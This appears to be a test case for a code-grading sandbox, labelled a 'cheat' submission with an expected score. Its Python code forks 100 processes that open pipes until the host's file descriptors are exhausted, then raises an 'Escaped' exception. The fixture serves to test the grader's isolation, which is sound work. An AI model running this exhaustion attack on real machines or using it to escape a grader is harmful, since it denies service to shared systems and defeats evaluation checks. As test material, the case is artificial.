# /// cheat
# about = "Processes open all the pipes that each of them may: the machine has a number of them."
# assignment = "small"
# cells = ["prelude", "right_model", "@"]
#
# [expect]
# score = 10
# problems = []
# ///
# %%
import os
import struct
import time

reader, writer = os.pipe()


def hoard():
    while True:
        _, end = os.pipe()
        os.set_blocking(end, False)
        try:
            os.write(end, bytes(4096))
        except BlockingIOError:
            pass
        os.write(writer, struct.pack("q", 2))


for _ in range(100):
    if os.fork() == 0:
        try:
            hoard()
        except OSError:
            time.sleep(40)
        os._exit(0)

opened = 0
while opened < 60_000:
    opened += struct.unpack("q", os.read(reader, 8))[0]
time.sleep(8)
raise Escaped(f"{opened} descriptors")
